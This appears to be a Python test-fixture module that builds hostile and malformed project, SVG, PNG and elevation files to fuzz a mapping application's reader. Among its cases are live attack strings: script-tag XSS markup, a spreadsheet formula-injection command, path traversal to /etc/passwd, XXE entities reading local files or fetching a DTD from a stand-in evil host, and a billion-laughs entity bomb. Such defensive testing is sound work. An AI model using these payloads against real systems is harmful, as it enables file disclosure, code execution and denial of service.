"""Input that somebody made to do harm, or that a crash left: a name, and the bytes when wanted.

Large ones are made when they are read. Texts that must not be lost on saving are called
`keep-1`, `keep-2` … in them.
"""

from __future__ import annotations

import base64
import gzip
import json
import zlib
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np

from baltic_desk.io.feature_writer import encode
from tests.elevation_files import dted, geotiff, slope
from tests.features import ring, unit
from tests.fuzz.seeds import png

FILES = Path(__file__).resolve().parent.parent / "files"
BOM = b"\xef\xbb\xbf"
VIEW = {"lon": 20, "lat": 55, "width_m": 1e5, "height_m": 1e5}
UNIT: dict[str, Any] = json.loads(encode(unit("u1", name="keep-unit")))
RING: dict[str, Any] = json.loads(encode(ring("r1", anchor="u1")))


@dataclass(frozen=True, slots=True)
class Case:
    """One file. `name` has no blanks; `alone` ones have a process of their own."""

    name: str
    content: Callable[[], bytes]
    alone: bool = False
    suffix: str = ".geojson"


def project(
    features: Any = (UNIT, RING), *, top: dict[str, Any] | None = None, **own: Any
) -> bytes:
    """A project with something put in its own member, or beside it."""
    header = {"schema": 1, "overlays": [{"id": "o", "name": "keep-overlay"}], **own}
    whole = {"type": "FeatureCollection", "baltic_desk": header, **(top or {})}
    features = list(features) if isinstance(features, tuple) else features
    return json.dumps(whole | {"features": features}).encode("utf-8", "surrogatepass")


def with_text(before: str, text: bytes, after: str = "") -> bytes:
    """A project in which JSON text that no encoder writes takes a string's place."""
    return project(**{before: "@@"}).replace(b'"@@"', text + after.encode())


def feature(**properties: Any) -> dict[str, Any]:
    """A unit with something else in its properties."""
    return UNIT | {"properties": UNIT["properties"] | properties}


def placed(coordinates: Any, shape: str = "Point", **properties: Any) -> dict[str, Any]:
    """Something at these coordinates."""
    return feature(**properties) | {"geometry": {"type": shape, "coordinates": coordinates}}


def phases(*changes: Any) -> list[dict[str, Any]]:
    """A first phase, and one for each list of changes."""
    return [{"id": "p0"}, *({"id": f"p{k}", "changes": c} for k, c in enumerate(changes, 1))]


# -- files of the tree ---------------------------------------------------------------------------


def samples() -> Iterator[Case]:
    """Every small hostile file that is kept."""
    for folder in ("hostile", "foreign/hostile_geojson", "foreign/hostile_json"):
        for path in sorted((FILES / folder).rglob("*")):
            if path.is_file() and path.suffix != ".tsv":
                yield Case(f"{path.parent.name}/{path.name}", path.read_bytes)


# -- JSON that is none, or that programs read differently ---------------------------------------


def texts() -> Iterator[Case]:
    """What no project file may be."""
    whole = project()
    yield Case("bom", lambda: BOM + whole)
    yield Case("two-boms", lambda: BOM + BOM + whole)
    for name in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be", "utf-7", "cp037"):
        yield Case(f"encoded-{name}", lambda name=name: whole.decode().encode(name))
    for name, text in {
        "nan": b"NaN",
        "infinity": b"-Infinity",
        "1e999": b"1e999",
        "5000-digits": b"9" * 5_000,
        "5000-digits-negative": b"-" + b"9" * 5_000,
        "5000-decimals": b"0." + b"3" * 5_000,
        "exponent-of-5000-digits": b"1e" + b"9" * 5_000,
        "exponent-of-minus-5000-digits": b"1e-" + b"9" * 5_000,
        "lone-surrogate": b'"\\ud800"',
        "reversed-surrogates": b'"\\udc00\\ud800"',
        "raw-surrogate": b'"\xed\xa0\x80"',
        "overlong-utf-8": b'"\xc0\xaf"',
        "bad-utf-8": b'"\xff\xfe"',
        "control-character": b'"a\x01b"',
        "null-character": b'"a\x00b"',
        "null-escape": b'"a\\u0000b"',
        "octal": b"017",
        "hexadecimal": b"0x17",
        "plus": b"+1",
        "single-quotes": b"'a'",
        "trailing-comma": b"[1,]",
        "comment": b"/* a */ 1",
        "undefined": b"undefined",
    }.items():
        yield Case(f"text-{name}", lambda text=text: with_text("title", text))
        yield Case(
            f"feature-{name}",
            lambda text=text: project((feature(name="@@"),)).replace(b'"@@"', text),
        )
    yield Case("duplicate-features", lambda: whole[:-1] + b',"features":[]}')
    yield Case("duplicate-features-first", lambda: b'{"features":[],' + whole[1:])
    yield Case("duplicate-own-member", lambda: whole[:-1] + b',"baltic_desk":{"schema":1}}')
    yield Case("duplicate-escaped", lambda: whole[:-1] + b',"f\\u0065atures":[]}')
    yield Case("duplicate-id", lambda: whole.replace(b'"id": "u1"', b'"id":"u1","id":"u2"'))
    yield Case(
        "duplicate-in-properties",
        lambda: whole.replace(b'"kind": "unit"', b'"kind":"unit","kind":"mark"'),
    )
    yield Case(
        "duplicate-in-geometry",
        lambda: whole.replace(b'"type": "Point"', b'"type":"Point","type":"Polygon"'),
    )
    yield Case("zeros", lambda: bytes(len(whole)))
    yield Case("zeros-in-it", lambda: whole[:200] + bytes(512) + whole[712:])
    yield Case("zeros-after-it", lambda: whole + bytes(4096))
    yield Case("twice", lambda: whole + whole)
    yield Case("line-breaks-in-names", lambda: project(top={"a\nb\r\u2028c": "keep-1"}))
    yield Case("bare-list", lambda: b"[]")
    yield Case("bare-null", lambda: b"null")
    for share in range(1, 40):
        yield Case(f"cut-at-{share}-fortieths", lambda s=share: whole[: len(whole) * s // 40])
    for short in range(1, 12):
        yield Case(f"cut-{short}-before-its-end", lambda s=short: whole[:-s])
    for version in (2, 3, 999, 10**19, 0, -1, 1.5, True, "1", [1], {"a": 1}):
        shown = str(version).replace(" ", "")
        yield Case(f"schema-{shown}", lambda v=version: project(schema=v, made_later="keep-1"))


# -- members that are something else than they must be ------------------------------------------

_LISTS = ("overlays", "phases", "steps", "tasks", "layouts", "pictures", "systems")
_WRONG: dict[str, Any] = {
    "object": {"id": "x", "name": "keep-1"},
    "object-of-lists": {"a": [{"id": "x", "name": "keep-1"}]},
    "text": "keep-1",
    "number": 3,
    "true": True,
    "list-of-lists": [["keep-1"]],
    "list-of-texts": ["keep-1"],
    "no-id": [{"name": "keep-1"}],
    "empty-id": [{"id": "", "name": "keep-1"}],
    "number-as-id": [{"id": 7, "name": "keep-1"}],
    "long-id": [{"id": "x" * 201, "name": "keep-1"}],
    "long-text": [{"id": "x", "name": "n" * 70_000, "title": "n" * 70_000, "note": "keep-1"}],
    "same-id": [{"id": "x", "name": "keep-1"}, {"id": "x", "name": "keep-2"}],
    "own-id": [{"id": "baltic_desk:project", "name": "keep-1"}],
    "id-of-a-feature": [{"id": "u1", "name": "keep-1", "title": "keep-2"}],
    "control-characters-in-id": [{"id": "a\0\n", "name": "keep-1"}],
    "nulls": [None, {"id": None, "name": "keep-1"}],
}


def members() -> Iterator[Case]:
    """Lists that are none, and members of them that are none."""
    for name in _LISTS:
        for what, value in _WRONG.items():
            yield Case(f"{name}-{what}", lambda n=name, v=value: project(**{n: v}))
    for what, value in _WRONG.items():
        yield Case(f"changes-{what}", lambda v=value: project(phases=phases(v)))
        # Where the camera stood is made anew at each saving: what is none is told, not kept.
        yield Case(f"view-{what}", lambda v=value: project(view=v).replace(b"keep-", b"lost-"))
        yield Case(f"own-member-{what}", lambda v=value: project(top={"baltic_desk": v}))
        yield Case(f"features-{what}", lambda v=value: project(v))
        yield Case(f"properties-{what}", lambda v=value: project((UNIT | {"properties": v},)))
        yield Case(f"geometry-{what}", lambda v=value: project((UNIT | {"geometry": v},)))
        for kind in ("Point", "LineString", "Polygon", "MultiPoint", "MultiPolygon"):
            yield Case(
                f"coordinates-{kind}-{what}", lambda v=value, k=kind: project((placed(v, k),))
            )
        yield Case(f"anchor-{what}", lambda v=value: project((UNIT, feature(parent=v))))
        for at in ("view", "overlays", "highlights", "phase"):
            step = {"id": "s", "title": "keep-2", "view": VIEW}
            yield Case(
                f"step-{at}-{what}", lambda v=value, a=at, s=step: project(steps=[s | {a: v}])
            )
        for part in ("set", "movement", "rank", "feature", "gone", "kind"):
            change = {"id": "u1", "note": "keep-2", part: value}
            yield Case(f"change-{part}-{what}", lambda c=change: project(phases=phases([c])))
        yield Case(f"crs-{what}", lambda v=value: project(top={"crs": v}))
        yield Case(f"type-{what}", lambda v=value: project(top={"type": v}))
    yield Case("overlay-of-a-feature-long", lambda: project((feature(overlay="x" * 5_000),)))
    yield Case("kind-unknown", lambda: project((feature(kind="hologram", name="keep-1"),)))
    yield Case("id-of-an-override", lambda: project((UNIT | {"id": "baltic_desk:phase:p\0u1"},)))


# -- changes that come to nothing ----------------------------------------------------------------


def changes() -> Iterator[Case]:
    """Changes of phases that change nothing, or what is not there."""
    point = {"type": "Point", "coordinates": [24.0, 57.0]}
    for name, change in {
        "nobody": {"id": "keep-1", "kind": "unit", "set": {"properties": {"name": "keep-2"}}},
        "nobody-gone": {"id": "keep-1", "gone": True},
        "other-kind": {
            "id": "u1",
            "kind": "range_ring",
            "set": {"properties": {"radius_max_m": 5}},
        },
        "nothing-set": {"id": "u1"},
        "nothing-set-by-kind": {"id": "u1", "kind": "unit", "set": {}},
        "same-value": {"id": "u1", "set": {"properties": {"name": "keep-unit"}}},
        "same-place": {"id": "u1", "set": {"geometry": point}},
        "way-without-move": {"id": "u1", "movement": {"path": "20,55"}},
        "gone-false": {"id": "u1", "gone": False, "note": "keep-1"},
        "gone-number": {"id": "u1", "gone": 1, "note": "keep-1"},
        "gone-and-set": {"id": "u1", "gone": True, "set": {"properties": {"name": "keep-1"}}},
        "feature-and-set": {"feature": UNIT | {"id": "n"}, "set": {"keep-1": 1}},
        "overlay-of-nowhere": {"id": "u1", "set": {"properties": {"overlay": "keep-1"}}},
    }.items():
        yield Case(f"change-{name}", lambda c=change: project(phases=phases([c])))
    yield Case(
        "change-in-the-first-phase",
        lambda: project(phases=[{"id": "p0", "changes": [{"id": "u1", "keep-1": True}]}]),
    )


def moved(feature_id: str, at: Any, **others: Any) -> dict[str, Any]:
    """A change of a phase that puts a feature somewhere else."""
    return {"id": feature_id, "set": {"geometry": {"type": "Point", "coordinates": at}}, **others}


# -- places that are none ------------------------------------------------------------------------

_BAD_PLACES: dict[str, tuple[float, float]] = {
    "lat-91": (20, 91),
    "lat-90.0000001": (20, 90.0000001),
    "lat-minus-91": (20, -91),
    "lon-181": (181, 55),
    "lon-540": (540, 55),
    "lon-minus-1e5": (-1e5, 55),
    "1e308": (1e308, 1e308),
    "denormal": (5e-324, -5e-324),
    "2-to-the-53": (2**53, 2**53),
    "1e300-lat": (20, 1e300),
    "integer-of-20-digits": (10**19, 10**19),
    "minus-zero": (-0.0, -0.0),
    "poles": (180, 90),
}


def places() -> Iterator[Case]:
    """Positions that are not on the earth, wherever a position may stand."""
    for name, (lon, lat) in _BAD_PLACES.items():
        at, way = [lon, lat], f"{lon:.0f},{lat:.0f} 20,55"
        square = [[[20, 55], [21, 55], at, [20, 55]]]
        turn = {"properties": {"center_lon": lon, "center_lat": lat}}
        layout = {"id": "l", "name": "keep-1", "lon": lon, "lat": lat}
        view = {"lon": lon, "lat": lat, "scale": 1e6}
        centred = {"kind": "range_ring", "center_lon": lon, "center_lat": lat}
        own_centre = RING["properties"] | {"center_lon": lon, "center_lat": lat, "name": "keep-1"}
        corridor = {"kind": "corridor", "overlay": "o", "center_line": way, "width_m": 10}
        measure = {"kind": "control_measure", "overlay": "o", "sidc": "10032500001512000000"}
        for what, content in {
            "point": lambda at=at: project((placed(at, name="keep-1"),)),
            "line": lambda at=at: project((placed([[20, 55], at], "LineString", kind="line"),)),
            "area": lambda s=square: project((placed(s, "Polygon", kind="polygon"),)),
            "points": lambda at=at, m=measure: project(
                (UNIT | {"geometry": {"type": "MultiPoint", "coordinates": [at]}, "properties": m},)
            ),
            "plain": lambda at=at: project(
                ({"type": "Feature", "geometry": {"type": "Point", "coordinates": at}},)
            ),
            "ring": lambda c=own_centre: project((RING | {"properties": c},)),
            "ring-alone": lambda c=centred: project((RING | {"properties": c},)),
            "corridor": lambda c=corridor: project((RING | {"properties": c},)),
            "control-points": lambda m=measure, w=way: project(
                (RING | {"properties": m | {"control_points": w}},)
            ),
            "vertices": lambda w=way: project(
                (placed([[20, 55], [24, 55]], "LineString", kind="line", vertices=w),)
            ),
            "moved": lambda at=at: project(phases=phases([moved("u1", at)])),
            "moved-ring": lambda t=turn: project(phases=phases([{"id": "r1", "set": t}])),
            "new-in-a-phase": lambda at=at: project(
                phases=phases([{"feature": placed(at) | {"id": "n"}}])
            ),
            "way": lambda w=way: project(
                phases=phases([moved("u1", [22, 56], movement={"path": w})])
            ),
            "view": lambda v=view: project(view=v),
            "step": lambda lon=lon, lat=lat: project(
                steps=[{"id": "s", "title": "keep-1", "view": VIEW | {"lon": lon, "lat": lat}}]
            ),
            "layout": lambda layout=layout: project(layouts=[layout]),
            "reprojected": lambda at=at: json.dumps(
                {"type": "FeatureCollection", "features": [placed(at, kind="x", overlay=None)],
                 "crs": {"type": "name", "properties": {"name": "EPSG:3301"}}}
            ).encode(),
        }.items():  # fmt: skip
            yield Case(f"{what}-at-{name}", content)
    for name, figures in {
        "radius-1e308": {"radius_max_m": 1e308},
        "radius-denormal": {"radius_max_m": 5e-324},
        "radius-negative": {"radius_max_m": -5},
        "radius-of-half-the-earth": {"radius_max_m": 2e7},
        "radius-zero": {"radius_max_m": 0},
        "least-beyond-most": {"radius_min_m": 1.9e7},
        "bearings-1e308": {"bearing_from_deg": 1e308, "bearing_to_deg": 1},
        "bearings-alike": {"bearing_from_deg": 10, "bearing_to_deg": 10},
        "bearings-denormal": {"bearing_from_deg": 5e-324, "bearing_to_deg": 1e-320},
    }.items():
        turned = RING | {"properties": RING["properties"] | figures}
        yield Case(f"ring-{name}", lambda t=turned: project((t,)))
        change = {"id": "r1", "set": {"properties": figures}}
        yield Case(f"ring-{name}-in-a-phase", lambda c=change: project(phases=phases([c])))


def names() -> Iterator[Case]:
    """Texts that a program might take for something else."""
    for name, text in {
        "markup": "<img src='file:///etc/hostname'><script>alert(1)</script>",
        "formula": "=cmd|' /C calc'!A0",
        "path": "../../../../etc/passwd",
        "windows-path": "\\\\evil.example\\share\\x",
        "bidi": "\u202e\u2066keep\u2069",
        "zalgo": "Z" + "\u0300\u0316" * 30_000,
        "null": "a\0b",
        "format": "%s%n{0}{__class__}",
        "noncharacter": "\ufffe\uffff\U0010ffff",
        "65536": "x" * 65_536,
        "65537": "x" * 65_537,
        "a-million": "x" * 1_000_000,
        "beyond-a-million": "x" * 1_000_001,
    }.items():
        yield Case(f"name-{name}", lambda t=text: project((feature(name=t),), title=t))
        yield Case(f"sidc-{name}", lambda t=text: project((feature(sidc=t[:100]),)))
        yield Case(f"url-{name}", lambda t=text: project((feature(source_url=t, source=t),)))
        yield Case(f"unknown-{name}", lambda t=text: project((feature(odd=t),), top={"odd": t}))
    for code in ("9" * 20, "0" * 30, "10991099109910991099", "S*********", "----------"):
        yield Case(f"sidc-{code}", lambda c=code: project((feature(sidc=c, name="keep-1"),)))
    for colour in ("#ggg", "red;}", "url(file:///etc/passwd)", "#fff\n", "#١١١"):
        yield Case(f"stroke-{colour!r}", lambda c=colour: project((feature(stroke=c),)))


# -- too much of something -----------------------------------------------------------------------


def _many(text: bytes, size: int) -> bytes:
    return b"[" + b",".join([text] * (size // (len(text) + 1))) + b"]"


_ANYWHERE = (*_LISTS, "features", "foreign", "own-member", "geometry", "properties", "odd", "id",
             "coordinates", "geometries", "plain", "changes", "set", "highlights", "title", "view",
             "type", "crs")  # fmt: skip
_IN_FEATURES = ("features", "geometry", "properties", "odd", "id", "coordinates", "geometries",
                "plain", "foreign", "own-member", "pictures", "type", "crs")  # fmt: skip
_IN_ANY_JSON = ("features", "foreign")
"""Places that are all the same to a reader that knows neither projects nor features."""


def bombs(
    size: int, *, heavy: bool, where: Sequence[str] = _ANYWHERE, each: int = 2
) -> Iterator[Case]:
    """Lists without end, of `size` bytes, wherever a list, or anything unknown, may stand.

    Each place has `each` of the sorts of them, other ones than the place before. Of deep ones that
    are heavy each place has one end, of texts two sorts: twelve megabytes take their time.
    """

    def at(place: str, content: bytes) -> bytes:
        match place:
            case "foreign" | "type" | "crs":
                return project(top={place: "@@"}).replace(b'"@@"', content)
            case "features":
                return project("@@").replace(b'"@@"', content)
            case "own-member":
                return project(top={"baltic_desk": "@@"}).replace(b'"@@"', content)
            case "geometry" | "properties" | "odd" | "id":
                return project((UNIT | {place: "@@"},)).replace(b'"@@"', content)
            case "coordinates":
                return project((placed("@@", "LineString", kind="line"),)).replace(b'"@@"', content)
            case "geometries":
                made = {"type": "GeometryCollection", "geometries": "@@"}
                return project(({"type": "Feature", "geometry": made, "properties": {}},)).replace(
                    b'"@@"', content
                )
            case "plain":
                shape = {"type": "MultiPoint", "coordinates": "@@"}
                plain = {"type": "Feature", "geometry": shape, "properties": {"name": "a"}}
                return project((plain,)).replace(b'"@@"', content)
            case "changes":
                return project(phases=phases("@@")).replace(b'"@@"', content)
            case "set":
                return project(phases=phases([{"id": "u1", "set": "@@"}])).replace(b'"@@"', content)
            case "highlights":
                step = {"id": "s", "view": VIEW, "highlights": "@@"}
                return project(steps=[step]).replace(b'"@@"', content)
            case _:
                return project(**{place: "@@"}).replace(b'"@@"', content)

    stuff = {
        "lists": b"[]",
        "objects": b"{}",
        "nulls": b"null",
        "zeros": b"0",
        "decimals": b"0.1",
        "texts": b'"ab"',
        "wide-texts": '"я"'.encode(),
        "ids": b'{"id":"a"}',
        "positions": b"[20,55]",
    }
    sorts = list(stuff.items())
    for turn, place in enumerate(where):
        for what, text in [sorts[(turn * each + k) % len(sorts)] for k in range(each)]:
            yield Case(
                f"{size >> 10}-kB-of-{what}-in-{place}",
                lambda p=place, t=text: at(p, _many(t, size)),
                heavy,
            )
    for what, (opening, closing) in {
        "lists": (b"[", b"]"),
        "objects": (b'{"a":', b"}"),
    }.items():
        deep = ("features", "foreign", "odd", "coordinates", "phases", "title")
        for turn, place in enumerate(place for place in deep if place in where):
            depth = size // (2 * len(opening + closing))
            ends = [("closed", closing * depth), ("open", b"")]
            for end, tail in [ends[turn % 2]] if heavy else ends:
                yield Case(
                    f"{depth}-deep-{end}-{what}-in-{place}",
                    lambda p=place, o=opening, t=tail, d=depth: at(p, o * d + b"1" + t),
                    heavy,
                )
    keys = b"{%s}" % b",".join(b'"%x":0' % k for k in range(size // 10))
    wide = ("foreign", "title", "properties", "set", "odd", "own-member")
    for turn, place in enumerate(place for place in wide if place in where):
        yield Case(f"{size >> 10}-kB-of-names-in-{place}", lambda p=place: at(p, keys), heavy)
        texts = (
            ("text", lambda: b'"%s"' % (b"x" * size)),
            ("escapes", lambda: b'"%s"' % (b"\\u0041" * (size // 6))),
            ("texts-and-a-surrogate", lambda: _many(b'"ab"', size)[:-1] + b',"\\ud83d"]'),
            ("numbers-and-a-pair", lambda: _many(b"0", size)[:-1] + b',"\\ud83d\\ude00"]'),
        )
        for what, made in texts[turn % 2 :: 2] if heavy else texts:
            yield Case(
                f"{size >> 10}-kB-of-{what}-in-{place}",
                lambda p=place, m=made: at(p, m()),
                heavy,
            )
    for what, content in {
        "blanks": lambda: b" " * size,
        "zeros": lambda: bytes(size),
        "quotation-marks": lambda: b'"' * size,
        "backslashes": lambda: b'{"a":"' + b"\\" * size,
        "line-breaks-before": lambda: b"\n" * size + project(),
        "line-breaks-after": lambda: project() + b"\n" * size,
        "random-bytes": lambda: bytes(range(256)) * (size >> 8),
        "brackets": lambda: b"[]{}" * (size >> 2),
        "digits": lambda: b"1" * size,
    }.items():
        yield Case(f"{size >> 10}-kB-of-{what}", content, heavy)


def counts(*, heavy: bool) -> Iterator[Case]:
    """Many valid things."""
    scale = 10 if heavy else 1

    def many(line: dict[str, Any], count: int, **own: Any) -> bytes:
        text = json.dumps(line)
        lines = ",".join(text.replace("@@", str(k)) for k in range(count))
        return project("##", **own).replace(b'"##"', f"[{lines}]".encode())

    def chain(count: int, circle: bool = False) -> bytes:
        above = [(k + 1) % count if circle else k - 1 for k in range(count)]
        return project(
            tuple(feature(parent=f"u{a}") | {"id": f"u{k}"} for k, a in enumerate(above))
        )

    def ring_changes(count: int, rings: int) -> bytes:
        bound = tuple(RING | {"id": f"r{k}"} for k in range(rings))
        places = ([20 + k / 50, 57] for k in range(count))
        moves = [[moved("u1", at)] for at in places]
        return project((UNIT, *bound), phases=phases(*moves))

    def random_line(length: int) -> list[list[float]]:
        corners = np.random.default_rng(1).uniform((9.0, 52.0), (36.0, 67.0), (length, 2))
        return [[lon, lat] for lon, lat in corners.round(4).tolist()]

    def corridors(count: int, length: int) -> bytes:
        way = " ".join(f"{lon},{lat}" for lon, lat in random_line(length))
        bound = {"kind": "corridor", "overlay": "o", "center_line": way, "width_m": 1e6}
        return many(RING | {"id": "c@@", "properties": bound}, count)

    def tangle(corners: int) -> bytes:
        line = random_line(corners)
        return project((placed([[*line, line[0]]], "Polygon", kind="polygon"),))

    def renamed(count: int) -> bytes:
        each = [[{"id": "u1", "set": {"properties": {"name": f"n{k}"}}}] for k in range(count)]
        return project(phases=phases(*each))

    def pictured(count: int, content: bytes, media: str) -> bytes:
        data = base64.b64encode(content).decode()
        found = [{"id": f"p{k}", "media": media, "data": data} for k in range(count)]
        return project(pictures=found)

    nobody = [{"id": f"x{k}", "gone": True} for k in range(2_000 * scale)]
    kinds: dict[str, Callable[[], bytes]] = {
        f"{2_000 * scale}-overlays": lambda: project(
            overlays=[{"id": f"o{k}"} for k in range(2_000 * scale)]
        ),
        f"{2_100 * scale}-overlays-of-features": lambda: many(
            feature(overlay="x@@") | {"id": "u@@"}, 2_100 * scale
        ),
        f"{600 * scale}-phases": lambda: renamed(600 * scale),
        f"{2_000 * scale}-changes-of-nobody": lambda: project(phases=phases(nobody)),
        "60-phases-of-100-rings": lambda: ring_changes(60, 100),
        f"{50 * scale}-corridors-that-tangle": lambda: corridors(50 * scale, 300),
        "corridor-of-10000-legs": lambda: corridors(1, 10_000),
        f"polygon-of-{6_000 * scale}-tangled-corners": lambda: tangle(6_000 * scale),
        f"{2_000 * scale}-features-of-one-id": lambda: many(UNIT, 2_000 * scale),
        f"{2_000 * scale}-units-in-a-chain": lambda: chain(2_000 * scale),
        f"{500 * scale}-units-in-a-circle": lambda: chain(500 * scale, circle=True),
        f"{500 * scale}-answers": lambda: many(
            feature(answers_task="t0") | {"id": "u@@"}, 500 * scale
        ),
        f"{30 * scale}-large-png": lambda: pictured(30 * scale, noise_png(2048), "image/png"),
        f"{30 * scale}-large-svg": lambda: pictured(30 * scale, _heavy_svg(), "image/svg+xml"),
    }
    for name, content in kinds.items():
        # Looking at what was read takes far more memory than reading it.
        yield Case(name, content, alone=True)
    if heavy:
        yield Case("200001-units", lambda: many(UNIT | {"id": "u@@"}, 200_001), alone=True)
        yield Case("199999-bad-features", lambda: project(("keep-1",) * 199_999), alone=True)


_OF_FEATURES = ("features", "units", "answers", "large")


def noise_png(side: int) -> bytes:
    """A picture that unpacks to four bytes a pixel."""
    return png(side, side, colours=6)


def _heavy_svg() -> bytes:
    group = b'<g transform="scale(1)"><rect x="1" y="2" width="3" height="4" fill="#fff"/></g>'
    return _SVG % (group * 2_400)


_SVG = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">%s</svg>'


# -- pictures and heights ------------------------------------------------------------------------


def pictures(*, heavy: bool) -> Iterator[Case]:
    """Pictures that are none, or that unpack to no end."""
    size = (8 if heavy else 1) << 20
    whole, flat = noise_png(64), png(40_000, 40_000, rows=b"")
    entity = b'<!ENTITY %s "%s">'
    laughs = entity % (b"a", b"lol") + b"".join(
        entity % (bytes([98 + k]), b"&%c;" % (97 + k) * 10) for k in range(9)
    )
    made: dict[str, Callable[[], bytes]] = {
        "svg-billion-laughs": lambda: b"<!DOCTYPE svg [%s]>" % laughs + _SVG % b"<text>&j;</text>",
        "svg-quadratic": lambda: (
            b"<!DOCTYPE svg [%s]>" % (entity % (b"a", b"x" * 50_000)) + _SVG % (b"&a;" * 50_000)
        ),
        "svg-file-entity": lambda: (
            b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + _SVG % b"<text>&a;</text>"
        ),
        "svg-parameter-entity": lambda: (
            b'<!DOCTYPE svg [<!ENTITY % a SYSTEM "http://evil.example/a.dtd">%a;]>' + _SVG % b""
        ),
        "svg-external-dtd": lambda: (
            b'<!DOCTYPE svg PUBLIC "a" "http://evil.example/svg.dtd">' + _SVG % b""
        ),
        "svg-style-sheet": lambda: b'<?xml-stylesheet href="file:///etc/passwd"?>' + _SVG % b"",
        "svg-image": lambda: _SVG % b'<image href="file:///etc/passwd" width="9" height="9"/>',
        "svg-paint-of-a-file": lambda: _SVG % b'<rect fill="url(file:///etc/passwd#a)"/>',
        "svg-include": lambda: (
            _SVG % b'<include xmlns="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'
        ),
        "svg-base": lambda: _SVG % b'<g xml:base="file:///etc/"><rect width="1" height="1"/></g>',
        "svg-deep": lambda: _SVG % (b"<g>" * (size // 3)),
        "svg-wide": lambda: _SVG % (b"<g/>" * (size // 4)),
        "svg-attributes": lambda: (
            _SVG % (b"<rect %s/>" % b" ".join(b'a%d="1"' % k for k in range(size // 12)))
        ),
        "svg-one-attribute": lambda: _SVG % (b'<path d="%s"/>' % (b"M0 0" * (size // 4))),
        "svg-digits": lambda: _SVG % (b'<path d="M%s"/>' % (b"1" * size)),
        "svg-digits-of-a-length": lambda: _SVG % (b'<rect width="%sx"/>' % (b"1" * size)),
        "svg-digits-of-its-own-side": lambda: (
            b'<svg xmlns="http://www.w3.org/2000/svg" width="%sx" height="9"/>' % (b"1" * size)
        ),
        "svg-namespace": lambda: (
            _SVG
            % (b'<g xmlns:a="%s">%s</g>' % (b"a" * (size // 2), b"<a:b/>" * min(size // 16, 4_990)))
        ),
        "svg-namespace-of-attributes": lambda: (
            _SVG
            % (
                b'<g xmlns:a="%s">%s</g>'
                % (b"a" * (size // 2), b'<g a:b="" a:c="" a:d="" a:e=""/>' * min(size // 64, 4_990))
            )
        ),
        "svg-style": lambda: _SVG % (b'<rect style="%s"/>' % (b"a:b;" * (size // 4))),
        "svg-text": lambda: _SVG % (b"<text>%s</text>" % (b"x" * size)),
        "svg-utf-16": lambda: (_SVG % b"<rect/>").decode().encode("utf-16"),
        "svg-zipped": lambda: gzip.compress(_SVG % (b" " * size)),
        "svg-of-1e9-a-side": lambda: _SVG.replace(b"0 0 10 10", b"0 0 1e9 1e9") % b"<rect/>",
        "png-of-40000-a-side": lambda: flat,
        "png-of-2-to-the-31": lambda: png(2**31 - 1, 2**31 - 1, rows=b""),
        "png-that-unpacks-to-more": lambda: png(4, 4, rows=bytes(64 << 20)),
        "png-text-that-unpacks": lambda: png(
            4, 4, before=[(b"zTXt", b"a\0\0" + zlib.compress(bytes(64 << 20)))]
        ),
        "png-profile-that-unpacks": lambda: png(
            4, 4, before=[(b"iCCP", b"a\0\0" + zlib.compress(bytes(64 << 20)))]
        ),
        "png-many-chunks": lambda: png(4, 4, before=[(b"tEXt", b"a\0b")] * (size // 16)),
        "png-no-pixels": lambda: png(0, 0),
        "gif": lambda: b"GIF89a" + bytes(100),
        "eps": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file",
        "nothing": lambda: b"",
    }
    for name, content in made.items():
        yield Case(name, content, heavy, ".svg")
    if not heavy:
        for at in range(0, len(whole), max(1, len(whole) // 40)):
            yield Case(f"png-cut-at-{at}", lambda at=at: whole[:at], suffix=".png")
            yield Case(
                f"png-other-at-{at}",
                lambda at=at: whole[:at] + bytes([whole[at] ^ 0x81]) + whole[at + 1 :],
                suffix=".png",
            )


def heights(*, heavy: bool) -> Iterator[Case]:
    """Elevation files that are none."""
    ground = slope(20, 30)
    whole = {
        ".tif": geotiff(ground, compression=8, predictor=2),
        ".dt0": dted(np.abs(slope(3, 3))),
        ".hgt": np.abs(slope(1201, 1201)).astype(">i2").tobytes(),
    }
    for suffix, data in whole.items():
        cuts = 4 if suffix == ".hgt" else 40
        for at in () if heavy else range(0, len(data), max(1, len(data) // cuts)):
            other = (0, 0x7F, 0xFF)
            name = f"N54E020{suffix}"
            yield Case(f"{name}-cut-at-{at}", lambda d=data, a=at: d[:a], heavy, suffix)
            for byte in () if suffix == ".hgt" else other:
                yield Case(
                    f"{name}-{byte}-at-{at}",
                    lambda d=data, a=at, b=byte: d[:a] + bytes([b]) + d[a + 1 :],
                    heavy,
                    suffix,
                )
        size = (64 if heavy else 1) << 20
        yield Case(f"zeros{suffix}", lambda s=size: bytes(s), heavy, suffix)
        yield Case(f"too-long{suffix}", lambda d=data, s=size: d + bytes(s), heavy, suffix)


# -- together ------------------------------------------------------------------------------------

SMALL_BOMB, LARGE_BOMB = 1 << 17, 12 << 20

GROUPS: Mapping[str, Callable[[bool], Iterator[Case]]] = {
    "samples": lambda heavy: iter(()) if heavy else samples(),
    "texts": lambda heavy: iter(()) if heavy else texts(),
    "members": lambda heavy: iter(()) if heavy else members(),
    "changes": lambda heavy: iter(()) if heavy else changes(),
    "places": lambda heavy: iter(()) if heavy else places(),
    "names": lambda heavy: iter(()) if heavy else names(),
    "bombs": lambda heavy: bombs(
        LARGE_BOMB if heavy else SMALL_BOMB, heavy=heavy, each=1 if heavy else 2
    ),
    "bombs-in-features": lambda heavy: bombs(
        LARGE_BOMB if heavy else SMALL_BOMB, heavy=heavy, where=_IN_FEATURES, each=1 if heavy else 2
    ),
    "bombs-in-any-json": lambda heavy: bombs(
        LARGE_BOMB if heavy else SMALL_BOMB, heavy=heavy, where=_IN_ANY_JSON, each=5
    ),
    "counts": lambda heavy: counts(heavy=heavy),
    "counts-of-features": lambda heavy: (
        each for each in counts(heavy=heavy) if any(what in each.name for what in _OF_FEATURES)
    ),
    "pictures": lambda heavy: pictures(heavy=heavy),
    "heights": lambda heavy: heights(heavy=heavy),
}
"""By name: the fast ones, or the large ones."""
